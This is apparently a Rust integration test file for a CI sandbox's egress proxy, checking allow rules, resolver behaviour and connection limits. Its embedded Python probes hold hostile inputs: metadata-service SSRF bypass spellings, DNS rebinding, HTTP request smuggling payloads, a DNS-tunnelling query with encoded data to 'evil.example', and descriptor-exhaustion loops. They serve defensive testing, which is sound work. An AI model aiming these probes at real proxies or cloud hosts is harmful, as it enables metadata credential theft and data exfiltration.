//! Sandboxes on the machine of [`world`](super::world), run by another test.

use std::collections::BTreeMap;
use std::io::Read as _;
use std::net::{IpAddr, TcpStream};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use async_trait::async_trait;
use ci_core::ErrorKind;
use ci_core::id::SandboxId;
use ci_core::network::{Destination, EgressRule, HostName, NetworkPolicy, NetworkReport, Verdict};
use ci_core::sandbox::{Backend as _, ExitStatus, Spec};
use ci_sandbox::native::{Config, Egress, ImageSource, Native, Resolver};
use rustix::process::{Resource, Rlimit, getrlimit, setrlimit};

use super::servers::{ECHO, ENDLESS, STATUS};
use super::world::{MACHINE, SOURCE};
use crate::support::{Ran, Rig, Sandbox, eventually, finish, image, refusal, shell, spec};

/// What the machine's resolver knows, and who asked it for what.
#[derive(Debug)]
struct Known {
    hosts: BTreeMap<&'static str, Vec<&'static str>>,
    asked: Mutex<Vec<String>>,
}

impl Known {
    fn new() -> Arc<Self> {
        let hosts = [
            ("allowed.example", vec!["203.0.113.10"]),
            ("git.example", vec!["203.0.113.10"]),
            ("closed.example", vec!["203.0.113.20"]),
            ("private.example", vec!["10.0.0.1"]),
            ("rebound.example", vec!["127.0.0.1", "169.254.169.254", MACHINE, "10.0.0.1", "100.100.100.200"]),
            ("half.example", vec!["169.254.169.254", "203.0.113.10"]),
        ];
        Arc::new(Self { hosts: hosts.into(), asked: Mutex::default() })
    }
}

#[async_trait]
impl Resolver for Known {
    async fn resolve(&self, host: &HostName) -> ci_core::Result<Vec<IpAddr>> {
        self.asked.lock().unwrap().push(host.as_str().to_owned());
        let known = self.hosts.get(host.as_str()).map(Vec::as_slice).unwrap_or_default();
        Ok(known.iter().map(|address| address.parse().unwrap()).collect())
    }
}

fn rig(egress: Egress) -> Rig {
    let state = tempfile::tempdir().unwrap();
    let config =
        Config::new(state.path()).with_image(image(), ImageSource::host_toolchain()).with_egress(egress);
    Rig::of(Native::new(config).unwrap(), state)
}

fn known() -> Egress {
    Egress::default().with_resolver(Known::new())
}

/// Rules from `host:port` and `network:port`.
fn allowing(rules: &[&str]) -> Spec {
    let rule = |text: &&str| {
        let (destination, port) = text.rsplit_once(':').unwrap();
        let destination = match destination.parse() {
            Ok(network) => Destination::Network(network),
            Err(_) => Destination::Host(HostName::parse(destination).unwrap()),
        };
        EgressRule { destination, ports: vec![port.parse().unwrap()] }
    };
    spec().with_network(NetworkPolicy::Allow(rules.iter().map(rule).collect()))
}

fn report(sandbox: &Sandbox) -> NetworkReport {
    sandbox.instance.network()
}

fn verdicts(sandbox: &Sandbox) -> Vec<(String, Verdict)> {
    report(sandbox).flows.iter().map(|flow| (flow.asked.to_string(), flow.verdict)).collect()
}

/// Python in the sandbox, with what the scripts share.
async fn python(sandbox: &Sandbox, script: &str) -> Ran {
    const SHARED: &str = r"
import socket, struct, sys
def proxy(sent):
    s = socket.create_connection(('127.0.0.1', 808), 20); s.sendall(sent); return s
def head(s):
    got = b''
    while b'\r\n\r\n' not in got:
        more = s.recv(1)
        if not more: break
        got += more
    return got.decode()
def rest(s):
    got = b''
    while True:
        try: more = s.recv(65536)
        except OSError: return got.decode()
        if not more: return got.decode()
        got += more
def status(sent):
    return head(proxy(sent)).split(' ')[1:2]
def connect(to):
    return status(f'CONNECT {to} HTTP/1.1\r\nHost: {to}\r\n\r\n'.encode())
def socks(kind, host, port):
    s = proxy(b'\5\1\0' + b'\5\1\0' + bytes([kind]) + host + struct.pack('>H', port))
    return s.recv(2) and s.recv(10)[1]
";
    sandbox
        .run(&format!(
            "cat > /tmp/script.py <<'END'\n{SHARED}\n{script}\nEND\n/usr/bin/python3 /tmp/script.py"
        ))
        .await
}

async fn says(sandbox: &Sandbox, script: &str) -> String {
    let ran = python(sandbox, script).await;
    assert_eq!(ran.exit.status, ExitStatus::Code(0), "{ran:?}");
    ran.stdout.trim_end().to_owned()
}

#[tokio::test]
#[ignore = "run by another test"]
async fn programs_that_know_proxies_reach_what_rules_name() {
    let rig = rig(known());
    let sandbox = rig.sandbox_of(&allowing(&["allowed.example:80", "git.example:443"])).await;
    for how in ["", "--socks5-hostname 127.0.0.1:808", "--proxytunnel"] {
        let heard =
            sandbox.output(&format!("curl -sS --fail {how} http://allowed.example/a/path?query")).await;
        assert!(heard.contains("GET /a/path?query HTTP/1.1\r\n"), "{how}: {heard}");
        assert!(heard.to_lowercase().contains("host: allowed.example\r\n"), "{how}: {heard}");
        assert!(!heard.to_lowercase().contains("proxy-connection"), "{how}: {heard}");
    }
    let posted = sandbox
        .output("head -c 300000 /dev/zero | tr '\\0' x | curl -sS --data-binary @- http://allowed.example/")
        .await;
    assert!(
        posted.contains("POST / HTTP/1.1\r\n") && posted.ends_with(&"x".repeat(300_000)),
        "{}",
        posted.len()
    );
    let clone = "GIT_SSL_NO_VERIFY=1 PATH=/usr/local/bin:$PATH HOME=/tmp git clone -q https://git.example/app.git && cat app/main.rs";
    assert_eq!(sandbox.output(clone).await, "fn main() {}");
    for refused in [
        "http://closed.example/",
        "https://closed.example/",
        "https://allowed.example/",
        "http://git.example/",
    ] {
        let ran = sandbox.run(&format!("curl -sS --fail {refused}")).await;
        assert!(!ran.exit.status.is_success() && ran.stderr.contains("403"), "{refused}: {ran:?}");
    }
    let report = report(&sandbox);
    assert_eq!((report.refused, report.failed), (4, 0), "{report:?}");
    let of = |host: &str| {
        report.flows.iter().find(|flow| flow.asked == *host && flow.verdict == Verdict::Connected)
    };
    let plain = of("allowed.example").unwrap();
    assert_eq!(
        (plain.attempts, plain.port, plain.address),
        (4, Some(80), Some("203.0.113.10".parse().unwrap()))
    );
    assert!(plain.sent > 300_000 && plain.received > 300_000 && of("git.example").unwrap().received > 500);
    sandbox.destroy().await;
}

#[tokio::test]
#[ignore = "run by another test"]
async fn programs_that_know_no_proxies_reach_what_rules_name() {
    let rig = rig(known());
    let sandbox =
        rig.sandbox_of(&allowing(&["allowed.example:80", "allowed.example:7777", "git.example:443"])).await;
    let talk = "s = socket.create_connection(('allowed.example', 7777), 20); print(s.recv(8)); s.sendall(b'hello'); print(s.recv(5))";
    assert_eq!(says(&sandbox, talk).await, "b'welcome\\n'\nb'hello'");
    sandbox.output("curl -sS --fail --noproxy '*' http://allowed.example/ && curl -skS --noproxy '*' https://git.example/app.git/HEAD").await;
    assert_eq!(
        sandbox.output("getent ahostsv4 allowed.example | head -n 1 | cut -d' ' -f1").await,
        "127.64.0.1"
    );
    assert!(!sandbox.run("getent hosts closed.example").await.exit.status.is_success());
    // A port that no rule names is not there, whatever another host of the rules has.
    let refused = "\ntry: socket.create_connection(('git.example', 7777), 20)\nexcept ConnectionRefusedError: print('refused')";
    assert_eq!(says(&sandbox, refused).await, "refused");
    assert_eq!(report(&sandbox).connections, 3);
    sandbox.destroy().await;
}

#[tokio::test]
#[ignore = "run by another test"]
async fn an_address_is_reached_by_the_rule_that_names_its_network() {
    let rig = rig(known());
    let rules = ["203.0.113.30/32:80", "10.0.0.0/31:80", "private.example:80", "0.0.0.0/0:7777"];
    let sandbox = rig.sandbox_of(&allowing(&rules)).await;
    let script = "
print(connect('203.0.113.30:80'), connect('10.0.0.1:80'), connect('private.example:80'), connect('203.0.113.10:7777'))
print(socks(1, bytes([203, 0, 113, 30]), 80), socks(4, b'\\0' * 10 + b'\\xff\\xff' + bytes([203, 0, 113, 30]), 80))
print(connect('203.0.113.20:80'), connect('10.0.0.2:80'), connect('10.0.0.1:7777'), connect('allowed.example:7777'))
print(socks(1, bytes([10, 0, 0, 2]), 80), socks(1, bytes([10, 0, 0, 1]), 7777))";
    assert_eq!(
        says(&sandbox, script).await,
        "['200'] ['200'] ['200'] ['200']\n0 0\n['403'] ['403'] ['403'] ['403']\n2 2"
    );
    sandbox.destroy().await;
}

#[tokio::test]
#[ignore = "run by another test"]
async fn the_jobs_own_variables_go_before_ours() {
    let rig = rig(known());
    let sandbox = rig.sandbox_of(&allowing(&["allowed.example:80"])).await;
    let shown = sandbox.output("echo $HTTPS_PROXY $http_proxy $ALL_PROXY $NO_PROXY").await;
    assert_eq!(
        shown,
        "http://127.0.0.1:808 http://127.0.0.1:808 http://127.0.0.1:808 localhost,127.0.0.1,::1"
    );
    let mut environment = ci_core::job::Environment::default();
    environment.set("HTTPS_PROXY".parse().unwrap(), "http://mine:1");
    let command = shell("echo $HTTPS_PROXY $HTTP_PROXY").with_environment(&environment);
    let mut process = sandbox.exec(&command).await.unwrap();
    assert_eq!(finish(&mut *process).await.stdout, "http://mine:1 http://127.0.0.1:808\n");
    drop(process);
    sandbox.destroy().await;
    let closed = rig.sandbox().await;
    assert_eq!(closed.output("env | grep -ci proxy || true").await, "0");
    closed.destroy().await;
}

/// N-1: without a network nothing is there to ask, and with one there is still no network card.
#[tokio::test]
#[ignore = "run by another test"]
async fn n_1_there_is_no_way_but_the_rules() {
    let rig = rig(known());
    let closed = rig.sandbox().await;
    let attempt = "
for to in [('203.0.113.10', 80), ('198.51.100.1', 80), ('127.0.0.1', 808)]:
    s = socket.socket(); s.settimeout(20); print(s.connect_ex(to))";
    assert_eq!(says(&closed, attempt).await, "101\n101\n111");
    closed.destroy().await;
    let open = rig.sandbox_of(&allowing(&["allowed.example:80"])).await;
    assert_eq!(open.output("tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '").await, "lo");
    assert_eq!(says(&open, attempt).await, "101\n101\n0");
    // Another sandbox's proxy is not this one's: each has its own rules.
    let other = rig.sandbox_of(&allowing(&["git.example:443"])).await;
    assert_eq!(
        says(&other, "print(connect('allowed.example:80'), connect('git.example:443'))").await,
        "['403'] ['200']"
    );
    open.destroy().await;
    other.destroy().await;
}

/// N-3: the machine itself, by every address and name of it, even where a rule names them.
#[tokio::test]
#[ignore = "run by another test"]
async fn n_3_the_machine_is_not_reached() {
    let rig = rig(known());
    let rules =
        ["198.51.100.0/24:80", "127.0.0.0/8:80", "0.0.0.0/0:80", "rebound.example:80", "localhost:80"];
    let sandbox = rig.sandbox_of(&allowing(&rules)).await;
    let script = format!(
        "for to in ['{MACHINE}', '{SOURCE}', '127.0.0.1', '127.9.9.9', '0.0.0.0', 'rebound.example', '198.51.100.255']:
    print(connect(to + ':80'))"
    );
    assert_eq!(says(&sandbox, &script).await, ["['403']"; 7].join("\n"));
    assert!(
        verdicts(&sandbox).iter().all(|(_, verdict)| *verdict == Verdict::Forbidden),
        "{:?}",
        verdicts(&sandbox)
    );
    sandbox.destroy().await;
}

/// N-4: metadata services and private networks: by address, by name, by rebinding, by odd spellings, by redirect.
#[tokio::test]
#[ignore = "run by another test"]
async fn n_4_metadata_is_not_reached() {
    let rig = rig(known());
    let rules = [
        "169.254.0.0/16:80",
        "100.64.0.0/10:80",
        "168.63.129.16/32:80",
        "rebound.example:80",
        "half.example:80",
        "allowed.example:80",
    ];
    let sandbox = rig.sandbox_of(&allowing(&rules)).await;
    let script = r"
for to in ['169.254.169.254', '100.100.100.200', '168.63.129.16', 'rebound.example', '[::ffff:169.254.169.254]']:
    print(*connect(to + ':80'), *status(f'GET http://{to}/ HTTP/1.1\r\nHost: {to}\r\n\r\n'.encode()))
print(socks(1, bytes([169, 254, 169, 254]), 80), socks(3, b'\x0f169.254.169.254', 80))
for to in ['2852039166:80', '0xa9fea9fe:80', '0251.0376.0251.0376:80', '169.254.169.254.:80', '169.254.43518:80',
           'allowed.example@169.254.169.254:80', '169.254.169.254%00.allowed.example:80', 'allowed.example:+80']:
    print(*connect(to))
print(*connect('half.example:80'), *connect('metadata.google.internal:80'))";
    let said = says(&sandbox, script).await;
    let expected = format!("{}2 2\n{}200 403", "403 403\n".repeat(5), "400\n".repeat(8));
    assert_eq!(said, expected);
    let redirected = sandbox.run("curl -sSL --fail http://allowed.example/to/169.254.169.254").await;
    assert!(redirected.stderr.contains("403"), "{redirected:?}");
    sandbox.destroy().await;
}

/// N-4: what is asked of an HTTP proxy can be read in one way only.
#[tokio::test]
#[ignore = "run by another test"]
async fn n_4_a_request_says_one_thing() {
    let rig = rig(known());
    let sandbox = rig.sandbox_of(&allowing(&["allowed.example:80", "git.example:443"])).await;
    let script = r"
get = b'GET http://allowed.example/1 HTTP/1.1\r\nHost: allowed.example\r\n'
# Another host in the header, two of them, in another spelling.
print(*status(b'GET http://allowed.example/ HTTP/1.1\r\nHost: closed.example\r\n\r\n'))
print(*status(get + b'Host: closed.example\r\n\r\n'))
print(*status(b'GET http://ALLOWED.example./ HTTP/1.1\r\nHost: allowed.example:80\r\n\r\n'))
# No whole URL, or not of HTTP.
print(*status(b'GET / HTTP/1.1\r\nHost: allowed.example\r\n\r\n'), *status(b'GET https://git.example/ HTTP/1.1\r\nHost: git.example\r\n\r\n'))
# The second request of a connection is checked as the first one was.
s = proxy(get + b'\r\nGET http://closed.example/2 HTTP/1.1\r\nHost: closed.example\r\nConnection: close\r\n\r\n')
both = rest(s); print(both.count('200 OK'), both.count('403 Forbidden'), 'closed.example' in both)
# What looks like a body to one and like a request to another: the connection ends before it.
smuggled = b'GET http://closed.example/admin HTTP/1.1\r\nHost: closed.example\r\nConnection: close\r\n\r\n'
s = proxy(get.replace(b'GET', b'POST') + b'Content-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n' % (5 + len(smuggled)) + smuggled)
both = rest(s); print(both.count('200 OK'), both.count('403 Forbidden'), 'admin' in both)
s = proxy(get.replace(b'GET', b'POST') + b'Content-Length: 3\r\nContent-Length: 5\r\nConnection: close\r\n\r\nabc'); print(*head(s).split(' ')[1:2])
# A body stays one, and headers for this connection go no further.
s = proxy(get.replace(b'GET', b'POST') + b'Content-Length: %d\r\nConnection: close, X-Hop\r\nX-Hop: 1\r\nProxy-Authorization: Basic eA==\r\nTE: trailers\r\nUpgrade: h2c\r\n\r\n' % len(smuggled) + smuggled)
said = rest(s).lower(); print(said.count('200 ok'), 'x-hop' in said, 'proxy-auth' in said, 'upgrade' in said, '\nte: ' in said)
print(len(head(proxy(get + b'X: ' + b'x' * 100000 + b'\r\n\r\n'))) > 0)";
    let said = says(&sandbox, script).await;
    assert_eq!(
        said,
        "400\n400\n200\n400 400\n1 1 False\n1 0 False\n400\n1 False False False False\nTrue",
        "{:?}",
        verdicts(&sandbox)
    );
    sandbox.destroy().await;
}

/// N-5: a look-up carries nothing out.
#[tokio::test]
#[ignore = "run by another test"]
async fn n_5_names_are_answered_from_here() {
    let known = Known::new();
    let rig = rig(Egress::default().with_resolver(known.clone()));
    let sandbox = rig.sandbox_of(&allowing(&["allowed.example:80"])).await;
    let script = r"
def query(name, kind, number=7):
    labels = b''.join(bytes([len(l)]) + l for l in name.split(b'.'))
    return struct.pack('>HHHHHH', number, 0x100, 1, 0, 0, 0) + labels + b'\0' + struct.pack('>HH', kind, 1)
def ask(name, kind):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(20); s.sendto(query(name, kind), ('127.0.0.1', 53))
    got = s.recv(600); return got[3] & 15, got[7]
print(ask(b'allowed.example', 1), ask(b'ALLOWED.EXAMPLE', 1), ask(b'allowed.example', 28), ask(b'allowed.example', 16))
print(ask(b'c2VjcmV0.allowed.example', 1), ask(b'c2VjcmV0.evil.example', 16), ask(b'closed.example', 255))
t = socket.create_connection(('127.0.0.1', 53), 20)
for name in [b'allowed.example', b'evil.example']:
    q = query(name, 1); t.sendall(struct.pack('>H', len(q)) + q); n = struct.unpack('>H', t.recv(2))[0]; print(t.recv(n)[3] & 15)
# As fast as it can: some are dropped, and nothing breaks.
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for n in range(20000): s.sendto(query(b'%d.evil.example' % n, 16), ('127.0.0.1', 53))
import time; time.sleep(2); print(ask(b'allowed.example', 1))";
    let said = says(&sandbox, script).await;
    assert_eq!(said, "(0, 1) (0, 1) (0, 0) (0, 0)\n(3, 0) (3, 0) (3, 0)\n0\n3\n(0, 1)");
    assert_eq!(
        *known.asked.lock().unwrap(),
        Vec::<String>::new(),
        "nobody is asked before there is a connection"
    );
    let report = report(&sandbox);
    assert!(
        report.flows.len() <= 200 && report.unlisted > 0 && report.refused < 10_000,
        "{}",
        report.refused
    );
    sandbox.destroy().await;
}

/// How many connections the echo server has, and had at most.
fn echoes() -> (usize, usize) {
    let mut text = String::new();
    TcpStream::connect(("203.0.113.10", STATUS)).unwrap().read_to_string(&mut text).unwrap();
    let (now, most) = text.trim().split_once(' ').unwrap();
    (now.parse().unwrap(), most.parse().unwrap())
}

fn files() -> usize {
    std::fs::read_dir("/proc/self/fd").unwrap().count()
}

/// N-7 and N-9.
#[tokio::test(flavor = "multi_thread")]
#[ignore = "run by another test"]
async fn n_7_and_n_9_connections_are_bounded_and_end_with_the_sandbox() {
    let rig = rig(known().with_descriptors(1_000));
    let rules = [format!("allowed.example:{ECHO}"), format!("allowed.example:{ENDLESS}")];
    let spec = allowing(&rules.each_ref().map(String::as_str));
    rig.sandbox_of(&spec).await.destroy().await;
    let (before, files_before) = (echoes().0, files());
    let greedy = rig.sandbox_of(&spec).await;
    // By all three ways, far more than are served at once.
    let hoard = "import socket, sys, time\nheld = []\n\
        for n in range(300):\n    s = socket.socket(); s.setblocking(False); held.append(s)\n\
        \x20   s.connect_ex(('127.64.0.1', 7777) if n % 2 else ('127.0.0.1', 808))\n\
        for s in held:\n    try: s.send(b'CONNECT allowed.example:7777 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')\n    except OSError: pass\n\
        print('held', flush=True); time.sleep(100)";
    let mut process = greedy.start(&format!("exec /usr/bin/python3 -c \"{hoard}\"")).await.unwrap();
    process.next().await.unwrap();
    assert!(eventually(Duration::from_secs(20), || echoes().0 >= before + 100), "{:?}", echoes());
    // While it holds them, others have their own.
    let modest = rig.sandbox_of(&spec).await;
    let talk = "s = socket.create_connection(('allowed.example', 7777), 20); print(s.recv(8))";
    assert_eq!(says(&modest, talk).await, "b'welcome\\n'");
    modest.destroy().await;
    let (_, most) = echoes();
    assert!(most <= before + 128 + 1, "{most}");
    drop(process);
    greedy.destroy().await;
    // At once, and not when somebody gets to it.
    assert!(files() <= files_before, "{} files before, {} after", files_before, files());
    assert!(eventually(Duration::from_secs(5), || echoes().0 <= before), "connections outlive their sandbox");
}

/// Gives this program fewer descriptors for as long as the value lives.
struct FewFiles(Rlimit);

impl FewFiles {
    fn new(most: u64) -> Self {
        let before = getrlimit(Resource::Nofile);
        setrlimit(Resource::Nofile, Rlimit { current: Some(most), ..before }).unwrap();
        Self(before)
    }
}

impl Drop for FewFiles {
    fn drop(&mut self) {
        let _ = setrlimit(Resource::Nofile, self.0);
    }
}

/// N-9: all descriptors that there are, by several sandboxes that want all they can get.
#[tokio::test(flavor = "multi_thread")]
#[ignore = "run by another test"]
async fn n_9_whoever_takes_all_it_can_leaves_room_for_others() {
    const MOST: usize = 400;
    let few = FewFiles::new(MOST as u64);
    let rig = rig(known());
    let spec = allowing(&[&format!("allowed.example:{ECHO}")]);
    let hoard = "import socket, sys, time\nheld = []\n\
        for n in range(100):\n    s = socket.socket(); s.setblocking(False); held.append(s)\n\
        \x20   s.connect_ex(('127.64.0.1', 7777) if n % 3 == 0 else ('127.0.0.1', 808))\n\
        time.sleep(0.5)\n\
        for n, s in enumerate(held):\n    try: s.send(b'CONNECT allowed.example:7777 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')\n    except OSError: pass\n\
        print('held', flush=True); time.sleep(100)";
    let mut hostile = Vec::new();
    for _ in 0..3 {
        hostile.push(rig.sandbox_of(&spec).await);
    }
    let mut processes = Vec::new();
    for sandbox in &hostile {
        let mut process = sandbox.start(&format!("exec /usr/bin/python3 -c \"{hoard}\"")).await.unwrap();
        process.next().await.unwrap();
        processes.push(process);
    }
    let turned_away =
        |sandbox: &Sandbox| verdicts(sandbox).iter().any(|(_, verdict)| *verdict == Verdict::Crowded);
    assert!(
        eventually(Duration::from_secs(30), || hostile.iter().all(turned_away)),
        "{:?}",
        hostile.iter().map(report).collect::<Vec<_>>()
    );
    assert!(files() < MOST, "{} files", files());
    // Sandboxes can still be made, and have what they need.
    for _ in 0..3 {
        let honest = rig.sandbox_of(&spec).await;
        let talk = "s = [socket.create_connection(('allowed.example', 7777), 20) for _ in range(3)]; print(*[c.recv(8) for c in s])";
        assert_eq!(says(&honest, talk).await, ["b'welcome\\n'"; 3].join(" "));
        assert_eq!(says(&honest, "print(connect('allowed.example:7777'))").await, "['200']");
        assert_eq!(report(&honest).refused, 0);
        honest.destroy().await;
    }
    // Who has its share is told so in the language that it speaks.
    let more = "
print(connect('allowed.example:7777'), socks(3, b'\\x0fallowed.example', 7777), connect('closed.example:7777'))
print(status(b'GET http://allowed.example:7777/ HTTP/1.1\\r\\nHost: allowed.example:7777\\r\\n\\r\\n'))";
    assert_eq!(says(&hostile[0], more).await, "['503'] 1 ['403']\n['503']");
    assert!(report(&hostile[0]).refused > 0);
    drop(processes);
    for sandbox in hostile {
        sandbox.destroy().await;
    }
    // What they had is there for the next.
    let next = rig.sandbox_of(&spec).await;
    let many = "s = [socket.create_connection(('allowed.example', 7777), 20) for _ in range(30)]; print(sum(c.recv(8) == b'welcome\\n' for c in s))";
    assert_eq!(says(&next, many).await, "30");
    next.destroy().await;
    drop(few);
}

/// A sandbox for whose own sockets there is no room is not made, and can be later.
#[tokio::test]
#[ignore = "run by another test"]
async fn a_sandbox_that_would_have_too_much_open_is_refused_for_now() {
    let rig = rig(known().with_descriptors(40));
    let spec = allowing(&["allowed.example:80"]);
    let first = rig.sandbox_of(&spec).await;
    let error = refusal(rig.native.create(&SandboxId::random(), &spec).await);
    assert_eq!(error.kind(), ErrorKind::Unavailable, "{error}");
    assert_eq!(rig.entries(), 1);
    rig.sandbox().await.destroy().await;
    first.destroy().await;
    rig.sandbox_of(&spec).await.destroy().await;
}

/// R-3: a program that never reads holds up nobody and fills no memory.
#[tokio::test]
#[ignore = "run by another test"]
async fn r_3_what_nobody_takes_is_not_taken_in() {
    let rig = rig(known());
    let sandbox = rig.sandbox_of(&allowing(&[&format!("allowed.example:{ENDLESS}")])).await;
    let script = "import socket, time\nheld = [socket.create_connection(('allowed.example', 7779)) for n in range(20)]\n\
                  print('held', flush=True); time.sleep(100)";
    let mut process = sandbox.start(&format!("exec /usr/bin/python3 -c \"{script}\"")).await.unwrap();
    process.next().await.unwrap();
    let (mut last, mut same) = (0, 0);
    for _ in 0..200 {
        tokio::time::sleep(Duration::from_millis(20)).await;
        let now = report(&sandbox).received;
        same = if now == last { same + 1 } else { 0 };
        last = now;
        if same > 10 {
            break;
        }
    }
    assert!(same > 10 && last < 20 * 8 * 1024 * 1024, "{last} bytes were taken in for nobody");
    drop(process);
    sandbox.destroy().await;
}

#[tokio::test]
#[ignore = "run by another test"]
async fn the_operators_bounds_go_before_the_rules() {
    let denied = known().with_denied("203.0.113.0/24".parse().unwrap());
    let strict = rig(denied.without_private_networks());
    let sandbox = strict.sandbox_of(&allowing(&["allowed.example:80", "0.0.0.0/0:80"])).await;
    assert_eq!(
        says(&sandbox, "print(connect('allowed.example:80'), connect('203.0.113.30:80'))").await,
        "['403'] ['403']"
    );
    sandbox.destroy().await;
    let error = refusal(strict.native.create(&SandboxId::random(), &allowing(&["10.0.0.0/8:80"])).await);
    assert_eq!(error.kind(), ErrorKind::Denied);

    let sourced = rig(known().with_source(SOURCE.parse().unwrap()));
    let sandbox = sourced.sandbox_of(&allowing(&["allowed.example:80"])).await;
    let heard = sandbox.output("curl -sS http://allowed.example/").await;
    assert!(heard.starts_with(&format!("from {SOURCE}\n")), "{heard}");
    sandbox.destroy().await;
    let six = rig(known().with_source("2001:db8::7".parse().unwrap()));
    let sandbox = six.sandbox_of(&allowing(&["allowed.example:80"])).await;
    assert_eq!(
        says(&sandbox, "print(connect('allowed.example:80'))").await,
        "['502']",
        "never from another address"
    );
    sandbox.destroy().await;
}

#[tokio::test]
#[ignore = "run by another test"]
async fn a_job_can_listen_where_a_rule_has_the_same_port() {
    let rig = rig(known());
    let sandbox = rig.sandbox_of(&allowing(&["allowed.example:7777"])).await;
    let script = "
l = socket.create_server(('127.0.0.1', 7777)); c = socket.create_connection(('127.0.0.1', 7777)); print(l.accept()[1][0])
print(socket.create_connection(('allowed.example', 7777), 20).recv(8))";
    assert_eq!(says(&sandbox, script).await, "127.0.0.1\nb'welcome\\n'");
    sandbox.destroy().await;
}

#[tokio::test]
#[ignore = "run by another test"]
async fn too_many_hosts_are_refused_with_a_reason() {
    let rig = rig(known());
    let rules: Vec<String> = (0..300).map(|number| format!("h{number}.example:443")).collect();
    let rules: Vec<&str> = rules.iter().map(String::as_str).collect();
    let error = refusal(rig.native.create(&SandboxId::random(), &allowing(&rules)).await);
    assert_eq!(error.kind(), ErrorKind::LimitExceeded);
    let sandbox = rig.sandbox_of(&allowing(&rules[..237])).await;
    assert_eq!(
        sandbox.output("getent ahostsv4 h236.example | head -n 1 | cut -d' ' -f1").await,
        "127.64.0.154"
    );
    sandbox.destroy().await;
}

#[tokio::test]
#[ignore = "run by another test"]
async fn the_images_own_resolver_is_not_asked() {
    let folder = tempfile::tempdir().unwrap();
    std::fs::set_permissions(folder.path(), std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let etc = folder.path().join("etc");
    std::fs::create_dir(&etc).unwrap();
    std::fs::write(etc.join("resolv.conf"), "nameserver 203.0.113.20\n").unwrap();
    for (name, target) in [("bin", "usr/bin"), ("lib", "usr/lib"), ("lib64", "usr/lib64")] {
        std::os::unix::fs::symlink(target, folder.path().join(name)).unwrap();
    }
    let state = tempfile::tempdir().unwrap();
    let source = ImageSource::Directory(folder.path().to_owned());
    let config = Config::new(state.path()).with_image(image(), source).with_egress(known());
    let rig = Rig::of(Native::new(config).unwrap(), state);
    let spec = allowing(&["allowed.example:80"]);
    let usr = crate::support::path("/usr");
    let sandbox = rig.sandbox_of(&spec.with_host_folder_read_only(usr, std::path::Path::new("/usr"))).await;
    assert_eq!(sandbox.output("cat /etc/resolv.conf").await, "nameserver 127.0.0.1");
    sandbox.output("curl -sS --fail --noproxy '*' http://allowed.example/").await;
    sandbox.destroy().await;
}
